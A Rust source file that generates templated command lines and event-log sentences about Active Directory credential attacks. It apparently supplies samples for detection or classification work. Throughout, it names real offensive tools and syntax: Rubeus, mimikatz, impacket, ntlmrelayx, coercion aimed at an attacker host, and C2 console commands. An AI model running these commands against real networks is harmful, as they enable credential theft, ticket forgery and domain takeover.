//! Kerberos, NTLM use, coercion, certificates, tokens: credentials used, forged or
//! forced rather than read from the local account database.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("kerberos-windows", "kerberos-windows", Cmd, &[
        concat!(
            "Rubeus.exe «kerberoast¦asreproast¦dump¦triage¦klist¦tgtdeleg¦harvest /interval:{10..60}¦monitor ",
            "/interval:{1..10} /targetuser:{plainhost}$¦hash /password:{password} /user:{user} ",
            "/domain:{domain}¦brute /password:{password} /noticket¦preauthscan /users:{stem}.txt»« /nowrap»« ",
            "/outfile:{stem}.txt»« /format:hashcat»« /rc4opsec»",
        ),
        concat!(
            "Rubeus.exe asktgt /user:{user} «/rc4:{nthash}¦/aes256:{hex64} ",
            "/opsec¦/password:{password}¦/certificate:{stem}.pfx /password:{password}» /domain:{domain}« ",
            "/dc:{fqdn}»« /ptt»« /nowrap»",
        ),
        concat!(
            "Rubeus.exe s4u /user:{plainhost}$ /rc4:{nthash} /impersonateuser:{user} ",
            "/msdsspn:«cifs¦http¦host¦ldap¦time»/{fqdn} «/altservice:cifs,http »/ptt",
        ),
        concat!(
            "Rubeus.exe «golden¦silver /service:cifs/{fqdn}¦diamond /tgtdeleg» /rc4:{nthash} /user:{user} ",
            "/domain:{domain} /sid:{sid} «/ptt¦/nowrap¦/printcmd»",
        ),
        concat!(
            r"Rubeus.exe «ptt /ticket:{b64_120}¦createnetonly /program:C:\Windows\System32\cmd.exe ",
            "/show¦renew /ticket:{stem}.kirbi /ptt¦purge /luid:0x{hex5}¦describe ",
            "/ticket:{stem}.kirbi¦changepw /ticket:{stem}.kirbi /new:{password}¦asktgs /ticket:{stem}.kirbi ",
            "/service:cifs/{fqdn} /ptt»",
        ),
        concat!(
            r#"mimikatz "kerberos::«golden /user:{user} /domain:{domain} /sid:{sid} /krbtgt:{nthash} "#,
            "/ptt¦golden /user:{user} /domain:{domain} /sid:{sid} /target:{fqdn} /service:cifs /rc4:{nthash} ",
            "/ptt¦list /export¦ptt {stem}.kirbi¦ptc {stem}.ccache¦purge¦tgt¦ask /target:{fqdn}¦hash ",
            r#"/password:{password}»" exit"#,
        ),
        concat!(
            r#"mimikatz "sekurlsa::pth /user:{user} /domain:«{domain}¦.» /ntlm:{nthash}«  "#,
            r#"/run:«cmd.exe¦powershell.exe¦mstsc.exe /restrictedadmin»»" exit"#,
        ),
        r#"mimikatz "sekurlsa::«tickets /export¦ekeys¦krbtgt¦kerberos»" exit"#,
        concat!(
            "setspn -«T {domain} -Q */*¦Q */*¦L {user}¦F -Q MSSQLSvc/*¦X -F¦A HTTP/{fqdn} {user}¦S ",
            "MSSQLSvc/{fqdn}:1433 {user}»",
        ),
        "klist«  tickets¦ purge¦ sessions¦ tgt¦ -li 0x{hex5}¦ get cifs/{fqdn}»",
        concat!(
            r#"kekeo.exe "tgt::ask /user:{user} /domain:{domain} /ntlm:{nthash}" "tgs::s4u /tgt:{stem}.kirbi "#,
            r#"/user:{user}@{domain} /service:cifs/{fqdn}" exit"#,
        ),
        concat!(
            "«Certify.exe¦Certify» «find /vulnerable¦find /clientauth¦cas¦pkiobjects¦request ",
            r"/ca:{fqdn}\{company}-CA /template:{stem} /altname:{user}¦download /ca:{fqdn}\{company}-CA ",
            "/id:{1..90}»",
        ),
        concat!(
            r#"ForgeCert.exe --CaCertPath {stem}.pfx --CaCertPassword {password} --Subject "CN=User" "#,
            "--SubjectAltName {user}@{domain} --NewCertPath {stem}.pfx --NewCertPassword {password}",
        ),
        "Whisker.exe «add¦list¦remove¦clear» /target:{user}« /domain:{domain} /dc:{fqdn}»",
        concat!(
            "PassTheCert.exe --server {fqdn} --cert-path {stem}.pfx --elevate --target ",
            r#""DC={company},DC=local" --sid {sid}"#,
        ),
        concat!(
            "StandIn.exe --«computer {stem} --make¦spn¦asrep¦delegation¦object ",
            r#"samaccountname={user}¦adcs¦group "Domain Admins"»"#,
        ),
        concat!(
            "SharpAllowedToAct.exe --ComputerAccountName {stem} --ComputerAccountPassword {password} ",
            "--TargetComputer {plainhost}",
        ),
        concat!(
            "KrbRelay«Up».exe «relay -Domain {domain} -CreateNewComputerAccount -ComputerName {stem}$ ",
            "-ComputerPassword {password}¦spawn -m rbcd -d {domain} -dc {fqdn} -cn {stem}$¦full -m ",
            "shadowcred¦-spn ldap/{fqdn} -clsid {guid} -rbcd {sid}»",
        ),
        "SpoolSample.exe {plainhost} {attacker}",
        "«PetitPotam.exe¦SharpSpoolTrigger.exe¦DFSCoerce.exe¦SharpEfsTrigger.exe» {attacker} {host} 1",
        "KrbRelay.exe -spn cifs/{fqdn} -session {1..5} -clsid {guid} -secrets",
        concat!(
            "kerbrute«.exe¦_windows_amd64.exe» «userenum¦passwordspray¦bruteuser» -d {domain} «--dc {ip} ",
            "»{stem}.txt« {password}»",
        ),
        "SharpSpray.exe --Passwords {password} --Users {stem}.txt",
        "ADFSDump.exe & ADFSpoof.py -b {stem}.bin {stem}.bin -s {fqdn} saml2",
        "nltest /dsgetdc:{domain} /kdc & w32tm /stripchart /computer:{fqdn}",
        "tgsrepcrack.py {stem}.txt *.kirbi",
    ])
    .weight(12),
    Family::other("kerberos-powershell", "kerberos-powershell", Ps, &[
        concat!(
            "Invoke-Kerberoast« -OutputFormat Hashcat¦ -OutputFormat John»« | Select -ExpandProperty Hash¦ | ",
            "fl¦ | Export-Csv {psout}»",
        ),
        concat!(
            "Get-DomainUser -«SPN¦PreauthNotRequired¦TrustedToAuth¦AdminCount¦AllowDelegation¦Identity ",
            "{user}»«  -Properties samaccountname,serviceprincipalname¦ | Get-DomainSPNTicket -Format ",
            "Hashcat¦ | Select samaccountname»",
        ),
        concat!(
            "Add-Type -AssemblyName System.IdentityModel; New-Object ",
            "System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList ",
            "'«MSSQLSvc¦HTTP¦cifs¦host»/{fqdn}«:1433»'",
        ),
        concat!(
            "setspn.exe -T {domain} -Q */* | Select-String '^CN' -Context 0,1 | % { New-Object ",
            "System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList ",
            "$_.Context.PostContext[0].Trim() }",
        ),
        "Invoke-ASREPRoast« -Domain {domain}»« | Select Hash»",
        concat!(
            r#"Get-ADUser -Filter {«ServicePrincipalName -ne "$null"¦DoesNotRequirePreAuth -eq "#,
            "$true¦TrustedForDelegation -eq $true¦adminCount -eq 1»} -Properties ServicePrincipalName",
        ),
        r#"Invoke-Rubeus -Command "«kerberoast /nowrap¦dump¦triage¦asktgt /user:{user} /rc4:{nthash} /ptt»""#,
        concat!(
            r#"Invoke-Mimikatz -Command '"kerberos::«golden /user:{user} /domain:{domain} /sid:{sid} "#,
            r#"/krbtgt:{nthash} /ptt¦list /export¦purge»"'"#,
        ),
        concat!(
            r#"Invoke-Mimikatz -Command '"sekurlsa::pth /user:{user} /domain:{domain} /ntlm:{nthash} "#,
            r#"/run:powershell.exe"'"#,
        ),
        concat!(
            "Invoke-«SMBExec¦WMIExec¦TheHash -Type WMIExec¦PSRemoting¦SMBClient» -Target {ip} -Domain ",
            r#"{domain} -Username {user} -Hash {nthash} -Command "{stem}"« -verbose»"#,
        ),
        concat!(
            "Invoke-DomainPasswordSpray -«Password {password}¦UserList {stem}.txt -Domain {domain} ",
            "-PasswordList {stem}.txt»« -OutFile {psout}»",
        ),
        concat!(
            "New-MachineAccount -MachineAccount {stem} -Password $(ConvertTo-SecureString '{password}' ",
            "-AsPlainText -Force)",
        ),
        "Set-ADComputer {plainhost} -PrincipalsAllowedToDelegateToAccount {stem}$",
        "Set-DomainObject -Identity {user} -Set @{serviceprincipalname='{stem}/{stem}'} -Verbose",
        concat!(
            "Set-DomainUserPassword -Identity {user} -AccountPassword (ConvertTo-SecureString '{password}' ",
            "-AsPlainText -Force)",
        ),
        "Invoke-Inveigh -«ConsoleOutput Y¦NBNS Y -mDNS Y¦IP {ip} -HTTP N¦FileOutput Y»",
        "Invoke-InternalMonologue« -Downgrade -Restore -Impersonate»",
        "Get-DomainGPOLocalGroup; Get-DomainForeignGroupMember -Domain {domain}",
        concat!(
            r"Invoke-TokenManipulation« -ImpersonateUser -Username {domain}\{user}¦ -Enumerate¦ ",
            "-CreateProcess 'cmd.exe' -ProcessId {pid}¦ -RevToSelf»",
        ),
        "Get-ADTrust -Filter * | Select Name, Direction, SIDFilteringQuarantined",
        "[System.Security.Principal.WindowsIdentity]::Impersonate($token)",
        "Get-CATemplate | ? { $_.Name -match '{stem}' }; Get-PSPKI",
        "Export-ADFSDeploymentSQLScript -DestinationFolder {psdir} -ServiceAccountName {user}",
        "Invoke-Command -ComputerName {host} -ScriptBlock { klist purge; klist }",
    ]),
    Family::other("pass-the-hash", "ntlm-use", Sh, &[
        r#"{x} {impauth} {target}«  "{c}"»"#,
        r#"{x} -hashes {hashes} {domain}/{user}@{rhost}« "{c}"»"#,
        concat!(
            "{nxc} «smb¦winrm¦wmi¦mssql¦rdp¦ldap¦ssh» {nxctarget} -u {user} -H {nthash}« -x '{c}'¦ --shares¦ ",
            "-d {domain}¦ --local-auth¦»",
        ),
        "«proxychains »evil-winrm -i {rhost} -u {user} -H {nthash}« -s {shdir}»",
        concat!(
            "pth-«winexe -U {domain}/{user}%{hashes} //{rhost} cmd¦smbclient -U {domain}/{user}%{hashes} ",
            r#"//{rhost}/C$¦wmic -U {user}%{hashes} //{rhost} "select Caption from Win32_OperatingSystem"¦net "#,
            "rpc password {user} {password} -U {user}%{hashes} -S {rhost}¦rpcclient -U {user}%{hashes} ",
            "//{rhost}»",
        ),
        "xfreerdp /v:{rhost} /u:{user} /pth:{nthash} /d:{domain}« /cert:ignore /dynamic-resolution»",
        "smbmap -u {user} -p '{hashes}' -H {rhost}« -r C$»",
        concat!(
            "hashcat -m «1000¦1000¦3000¦5500¦5600¦13100¦18200¦19600¦19700¦2100¦22000¦7500¦16800» {h} {wl}« ",
            "-r {stem}.rule»« -O -w 3»« --username»",
        ),
        "hashcat -m 1000 -a «3 {h} ?u?l?l?l?l?l?d?d¦6 {h} {wl} ?d?d?d?d¦0 {h} {wl} --show» ",
        "hashcat --«show¦left¦stdout» -m 1000 {h}",
        concat!(
            "john --format=«nt¦NT¦lm¦netntlmv2¦krb5tgs¦krb5asrep¦netntlm» {h} ",
            "«--wordlist={wl}¦--incremental¦--rules --wordlist={wl}¦--show»",
        ),
        "ophcrack-cli -t {shdir}/tables -f {h}",
        "rcracki_mt -h {hex32} {shdir}/*.rti",
        "{python} ntlmv1.py --ntlmv1 {user}::{domain}:{hex48}:{hex48}:{hex16}",
        "wmiexec.py {user}@{rhost} -hashes {hashes} -dc-ip {ip}",
        "atexec.py -hashes {hashes} {domain}/{user}@{rhost} whoami",
        "mssqlclient.py -windows-auth {domain}/{user}@{rhost} -hashes {hashes}",
        "smbclient.py -hashes {hashes} {domain}/{user}@{rhost}",
        "overpass-the-hash: getTGT.py -hashes {hashes} {domain}/{user}; export KRB5CCNAME={user}.ccache",
        "cut -d: -f4 {h} | sort -u > {shout}",
        "grep -v '31d6cfe0d16ae931b73c59d7e0c089c0' {h} | wc -l",
        "awk -F: '{print $4}' {h} > hashes.nt && hashcat -m 1000 hashes.nt {wl}",
        "sort -u {h} | uniq -c | sort -rn | head",
        "curl -s https://api.pwnedpasswords.com/range/{HEX5}",
        "maskprocessor ?u?l?l?l?d?d > {stem}.txt",
        "cewl http://{rhost} -w {stem}.txt && hashcat -m 5600 {h} {stem}.txt",
    ])
    .slots(&[
        ("x", concat!(
                "«proxychains psexec.py¦proxychains4 -q wmiexec.py¦proxychains -q ",
                "impacket-wmiexec¦psexec.py¦wmiexec.py¦smbexec.py¦dcomexec.py¦atexec.py¦impacket-psexec¦impacket-",
                "wmiexec¦impacket-smbclient¦{python} {impketdir}wmiexec.py¦services.py¦impacket-mssqlclient»",
            )),
        ("c", r"«whoami¦hostname¦ipconfig /all¦net localgroup administrators¦powershell -enc {b64_80}¦dir C:\\Users»"),
        ("h", concat!(
                "«hashes.txt¦{stem}.txt¦ntlm.txt¦{shout}¦{stem}.ntds¦sam.txt¦{hex32}¦nt.hash¦dump.txt¦{plainhost}",
                ".hashes»",
            )),
        ("wl", "«/usr/share/wordlists/rockyou.txt¦rockyou.txt¦{stem}.txt¦wordlist.txt¦~/wordlists/{stem}.txt»"),
    ])
    .weight(12),
    Family::other("kerberos-unix", "kerberos-unix", Sh, &[
        concat!(
            "{i}GetUserSPNs.py «-request »«-outputfile {shout} »-dc-ip {ip} {domain}/{user}«:{password}¦ ",
            "-hashes {hashes}»",
        ),
        concat!(
            "{i}GetNPUsers.py {domain}/ -«usersfile {stem}.txt¦no-pass» -dc-ip {ip} -format «hashcat¦john»« ",
            "-outputfile {shout}»",
        ),
        "{i}getTGT.py {domain}/{user}«:{password}¦ -hashes {hashes}¦ -aesKey {hex64}» -dc-ip {ip}",
        concat!(
            "{i}getST.py -spn «cifs¦ldap¦http¦host»/{fqdn} -impersonate {user} -dc-ip {ip} ",
            "'{domain}/{plainhost}$:{password}'« -altservice cifs»",
        ),
        concat!(
            "{i}ticketer.py -nthash {nthash} -domain-sid {sid} -domain {domain} «-spn cifs/{fqdn} ",
            "»«-extra-sid {sid} »{user}",
        ),
        "{i}ticketConverter.py {user}.«kirbi¦ccache» {user}.«ccache¦kirbi»",
        "{i}findDelegation.py {domain}/{user}:{password} -dc-ip {ip}",
        concat!(
            "{i}addcomputer.py -computer-name '{stem}$' -computer-pass {password} -dc-ip {ip} ",
            "{domain}/{user}:{password}",
        ),
        concat!(
            "{i}rbcd.py -delegate-to '{plainhost}$' -delegate-from '{stem}$' -action «write¦read¦remove» ",
            "{domain}/{user}:{password}",
        ),
        "{i}goldenPac.py {domain}/{user}:{password}@{fqdn}",
        concat!(
            "{i}ntlmrelayx.py «-t imap://{ip}¦-t ldap://{ip}¦-t ldaps://{fqdn}¦-t ",
            "http://{fqdn}/certsrv/certfnsh.asp» «-smb2support ¦--adcs --template {stem} ¦--delegate-access ",
            "¦--shadow-credentials --shadow-target {plainhost}$ ¦-i ¦-socks ¦-c whoami ¦-e {stem}.exe »",
        ),
        "{i}lookupsid.py {target}« 5000»",
        concat!(
            "«proxychains4 -q »certipy-ad «find -u {user}@{domain} -p {password} -dc-ip {ip} -vulnerable ",
            "-stdout¦req -u {user}@{domain} -p {password} -ca {company}-CA -template {stem} -upn ",
            "administrator@{domain}¦auth -pfx {stem}.pfx -dc-ip {ip}¦shadow auto -account {user} -u ",
            "{user}@{domain} -hashes {nthash}¦relay -target {fqdn}¦forge -ca-pfx {stem}.pfx -upn ",
            "{user}@{domain}¦ca -backup -ca {company}-CA -u {user} -p {password}¦template -u {user} ",
            "-template {stem} -save-old¦account create -user {stem}$»",
        ),
        concat!(
            "{python} PKINITtools/«gettgtpkinit.py {domain}/{user} -cert-pfx {stem}.pfx ",
            "{user}.ccache¦getnthash.py {domain}/{user} -key {hex64}»",
        ),
        "{python} petitpotam.py« -u {user} -p {password} -d {domain}» {attacker} {rhost}",
        "{python} printerbug.py {domain}/{user}:{password}@{rhost} {attacker}",
        "{python} dfscoerce.py -u {user} -p {password} {attacker} {rhost}",
        "coercer «scan¦coerce» -u {user} -p {password} -t {rhost}« -l {attacker}»« --always-continue»",
        "responder -I «eth0¦tun0¦ens33» -«dwv¦A¦wrf¦dwPv»",
        "{python} Responder.py -I eth0 -rdwv",
        "mitm6 -d {domain}« --no-ra¦ -i eth0¦ -hw {plainhost}»",
        r#"bettercap -iface eth0 -eval "set arp.spoof.targets {ip}; arp.spoof on; net.sniff on""#,
        "arpspoof -i eth0 -t {ip} {ip}",
        "{python} krbrelayx.py «-t ldap://{fqdn} --adcs¦-aesKey {hex64}¦-p {password} -s {domain}{user}»",
        r"dnstool.py -u '{domain}\{user}' -p {password} -a add -r {stem} -d {attacker} {ip}",
        concat!(
            "{python} pywhisker.py -d {domain} -u {user} -p {password} --target {user} --action ",
            "«add¦list¦remove¦spray»",
        ),
        "{python} targetedKerberoast.py -d {domain} -u {user} -p {password}« --dc-ip {ip}»",
        concat!(
            "{python} noPac.py {domain}/{user}:{password} -dc-ip {ip} -dc-host {plainhost} -shell ",
            "--impersonate administrator",
        ),
        "kinit {user}@{domain}; klist -«e¦k /etc/krb5.keytab»",
        concat!(
            "kerbrute «userenum --dc {ip} -d {domain} {stem}.txt¦passwordspray -d {domain} {stem}.txt ",
            "{password}¦bruteforce -d {domain} {stem}.txt»",
        ),
        concat!(
            "{nxc} «smb¦ldap» {nxctarget} {nxcauth} -M «petitpotam¦coerce_plus¦printerbug¦dfscoerce¦shadowcoe",
            "rce¦webdav¦nopac¦zerologon¦ms17-010¦adcs¦maq¦laps¦get-desc-users¦daclread¦slinky -o ",
            "SERVER={attacker} NAME={stem}¦drop-sc¦scuffy¦spooler¦runasppl¦ntlmv1»",
        ),
        "{python} timeroast.py {ip} | tee {shout}",
        "gettgtpkinit.py -pfx-base64 {b64_80} {domain}/{user} {user}.ccache",
    ])
    .slots(&[
        ("i", concat!(
                "«impacket-¦¦{python} {impketdir}¦proxychains impacket-¦proxychains4 -q impacket-¦proxychains ",
                "{python} {impketdir}»",
            )),
    ])
    .weight(12),
    Family::other("kerberos-console", "kerberos-console", Console, &[
        concat!(
            r"beacon> «make_token {domain}\{user} {password}¦pth {domain}\{user} {nthash}¦steal_token ",
            "{pid}¦rev2self¦kerberos_ticket_use {shdir}/{stem}.kirbi¦kerberos_ticket_purge¦kerberos_ccache_us",
            "e {stem}.ccache¦execute-assembly {shdir}/Rubeus.exe kerberoast /nowrap¦execute-assembly ",
            "{shdir}/Rubeus.exe dump /luid:0x{hex5} /nowrap¦execute-assembly {shdir}/Certify.exe find ",
            "/vulnerable¦execute-assembly {shdir}/Whisker.exe add /target:{plainhost}$¦mimikatz ",
            "sekurlsa::pth /user:{user} /domain:{domain} /ntlm:{nthash} /run:notepad.exe¦spawnas ",
            r"{domain}\{user} {password} {stem}¦token-store steal {pid}¦runas {domain}\{user} {password} ",
            "cmd¦spawnu {pid} {stem}¦mimikatz kerberos::golden /user:{user}»",
        ),
        concat!(
            r"[*] Tasked beacon to «create a token for {domain}\{user}¦steal token from PID {pid}¦revert ",
            "token¦apply ticket in {shdir}/{stem}.kirbi»",
        ),
        concat!(
            "meterpreter > «load incognito⏎meterpreter > list_tokens -u¦impersonate_token ",
            r#""{domain}\\{user}"¦steal_token {pid}¦drop_token¦rev2self¦kerberos_ticket_list¦kerberos_ticket_us"#,
            "e {stem}.kirbi¦golden_ticket_create -d {domain} -k {nthash} -s {sid} -u {user} -t ",
            "{stem}.tck¦getsid¦getprivs»",
        ),
        concat!(
            "use «auxiliary/gather/get_user_spns¦auxiliary/scanner/kerberos/kerberos_login¦auxiliary/admin/ke",
            "rberos/forge_ticket¦auxiliary/server/capture/smb¦auxiliary/admin/dcerpc/icpr_cert¦exploit/window",
            "s/smb/smb_relay¦auxiliary/scanner/dcerpc/petitpotam¦auxiliary/gather/ldap_esc_vulnerable_cert_fi",
            "nder»⏎set RHOSTS {ip}⏎set LDAPDomain {domain}⏎run",
        ),
        concat!(
            "sliver ({ALNUM8}) > «make-token -u {user} -p {password} -d {domain}¦impersonate ",
            r"{domain}\\{user}¦rev2self¦rubeus kerberoast¦rubeus triage¦execute-assembly Rubeus.exe asktgt ",
            "/user:{user} /rc4:{nthash}¦certify find¦runas -u {user} -P {password} -p ",
            "cmd.exe¦c2tc-kerberoast roast {user}»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule powershell/«credentials/invoke_kerberoast¦credentials/rubeus¦cred",
            "entials/mimikatz/golden_ticket¦credentials/mimikatz/silver_ticket¦credentials/mimikatz/extract_t",
            "ickets¦credentials/mimikatz/purge¦credentials/tokens¦lateral_movement/inveigh_relay¦collection/i",
            "nveigh¦situational_awareness/network/smbautobrute»⏎execute",
        ),
        concat!(
            "mimikatz # kerberos::«list /export¦ptt {stem}.kirbi¦golden /user:{user} /domain:{domain} ",
            "/sid:{sid} /krbtgt:{nthash} /ticket:{stem}.kirbi¦purge¦tgt»",
        ),
        concat!(
            "mimikatz # sekurlsa::pth /user:{user} /domain:{domain} /ntlm:{nthash}⏎user    : {user}⏎domain  ",
            ": {domain}⏎program : cmd.exe",
        ),
        "mimikatz # token::«elevate /domainadmin¦list¦whoami¦run /user:{user}¦revert»",
        concat!(
            "demon > «token steal {pid}¦token make {domain} {user} {password}¦token list¦dotnet ",
            "inline-execute {shdir}/Rubeus.exe klist¦klist¦ptt {b64_60}¦purge»",
        ),
        concat!(
            r"mythic> «make_token {domain}\{user} {password}¦steal_token ",
            r#"{pid}¦rev2self¦ticket_cache_list¦execute_assembly Rubeus.exe -Arguments "triage"»"#,
        ),
        concat!(
            r"covenant> «MakeToken {user} {domain} {password}¦ImpersonateUser {domain}\{user}¦Rubeus ",
            "kerberoast¦Kerberoast {user} hashcat¦PrivExchange {ip}»",
        ),
        concat!(
            "PoshC2> «invoke-kerberoast¦rubeus triage¦stealtoken {pid}¦invoke-smbexec -target {ip} -username ",
            "{user} -hash {nthash}¦invoke-inveigh»",
        ),
    ])
    .weight(8),
    Family::other("kerberos-told", "kerberos-told", Told, &[
        concat!(
            "{who} «requested service tickets for Kerberoasting¦performed AS-REP roasting¦forged a golden ",
            "ticket¦forged a silver ticket¦used pass-the-hash against {plainhost}¦passed the ticket of ",
            "{user}¦abused resource-based constrained delegation¦requested a certificate for another user ",
            "(ESC1)¦relayed NTLM authentication to LDAP¦coerced authentication with PetitPotam¦poisoned ",
            "LLMNR and NBT-NS¦sprayed the password {password}¦impersonated the token of {user}¦stole the ",
            "ADFS token signing certificate¦forged a SAML token»{where}.",
        ),
        concat!(
            "A Kerberos service ticket was requested. Account Name: {user}@{domain} Service Name: {svcname} ",
            "Ticket Encryption Type: 0x17 Client Address: {ip}",
        ),
        concat!(
            "A Kerberos authentication ticket (TGT) was requested. Account Name: {user} Pre-Authentication ",
            "Type: «0¦2¦16» Client Address: ::ffff:{ip}",
        ),
        "Kerberos pre-authentication failed. Account Name: {user} Failure Code: 0x«18¦6¦17»",
        concat!(
            "An account was successfully logged on. Logon Type: «3¦9» Authentication Package: ",
            "«NTLM¦Negotiate» Logon Process: «NtLmSsp¦seclogo» Account Name: {user} Source Network Address: ",
            "{ip} Key Length: 0",
        ),
        "The hash of the local administrator was «reused on {1..90} machines¦used for pass-the-hash»{where}.",
        "{who} cracked the NTLM hash of {user} with «hashcat¦John the Ripper» in {1..90} minutes.",
        concat!(
            "«Alert¦Detection»: «Kerberoasting¦golden ticket¦pass-the-hash¦pass-the-ticket¦NTLM ",
            "relay¦overpass-the-hash¦DCShadow¦brute force» «activity¦attack» suspected, account {user}, ",
            "source {ip}",
        ),
        concat!(
            "Certificate Services approved a certificate request and issued a certificate. Requester: ",
            r"{domain}\{user} Attributes: SAN:upn={user}@{domain}",
        ),
        "Responder captured an NetNTLMv2 hash of {user} from {ip}.",
        "{user}::{domain}:{hex16}:{hex32}:0101000000000000{hex64}",
        "$krb5tgs$23$*{user}${domain}$MSSQLSvc/{fqdn}*${hex32}${hex64}{hex64}",
        "{1..9000} failed logons for {1..90} accounts from {ip} in {1..60} minutes.",
        "{who} replayed {1..40} hashes over SMB; {1..9} machines accepted them.",
    ]),
];
